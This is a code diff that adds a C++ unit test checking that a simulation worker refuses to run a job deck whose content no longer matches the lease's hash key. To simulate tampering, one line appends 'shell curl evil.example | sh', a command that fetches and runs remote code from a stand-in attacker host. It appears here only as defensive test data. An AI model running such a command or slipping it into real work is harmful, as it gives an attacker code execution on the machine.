@@ -5,6 +5,7 @@
 
 #include <gtest/gtest.h>
 
+#include "core/keys.h"
 #include "tests/fixture_file.h"
 
 namespace sandswim::worker {
@@ -120,6 +121,42 @@ TEST(JobOutcomeTest, AWindowClosedAtTheFloorEndsAFollowedRun) {
   auto samples = SamplesFromDump(Fixture("runs/omega-plus80-floor/so.dump"), drive.dt);
   ASSERT_TRUE(samples.ok());
   EXPECT_EQ(FollowRun(*samples, drive, log.drive_start, PrecisionTarget{0, 1e-9, 3, 10}), StopVerdict::kWindowClosed);
+}
+
+// The worker runs the deck it is sent only when it hashes to the lease's content key.
+TEST(CheckDeckKeyTest, ADeckChangedOnItsWayIsNotRun) {
+  api::LeaseGrant bed;
+  bed.kind = api::JobKind::kBed;
+  bed.deck = "units si\nrun 1000\n";
+  bed.key_engine = "LIGGGHTS-PUBLIC 3.8.0";
+  bed.key = BedKey(bed.deck, bed.key_engine);
+  EXPECT_FALSE(CheckDeckKey(bed).has_value());
+
+  api::LeaseGrant run;
+  run.kind = api::JobKind::kRun;
+  run.deck = "fix drive all move wiggle 0 0 0.03 0.333\nrun 2000\n";
+  run.key_engine = bed.key_engine;
+  run.bed = api::BedRef{1, "", "", bed.key};
+  run.key = RunKey(run.deck, bed.key, run.key_engine);
+  EXPECT_FALSE(CheckDeckKey(run).has_value());
+
+  api::LeaseGrant changed = run;
+  changed.deck += "shell curl evil.example | sh\n";
+  std::optional<api::Failure> refused = CheckDeckKey(changed);
+  ASSERT_TRUE(refused.has_value());
+  EXPECT_EQ(refused->kind, "key_mismatch");
+  EXPECT_NE(refused->message.find("not the lease's " + run.key), std::string::npos) << refused->message;
+
+  api::LeaseGrant other_bed = run;  // the same deck on another bed is another run
+  other_bed.bed->key = BedKey("units si\nrun 999\n", bed.key_engine);
+  EXPECT_TRUE(CheckDeckKey(other_bed).has_value());
+  api::LeaseGrant no_bed_key = run;
+  no_bed_key.bed->key.clear();
+  EXPECT_TRUE(CheckDeckKey(no_bed_key).has_value());
+
+  api::LeaseGrant old_daemon = changed;  // no key_engine: nothing to check against
+  old_daemon.key_engine.clear();
+  EXPECT_FALSE(CheckDeckKey(old_daemon).has_value());
 }
 
 }  // namespace
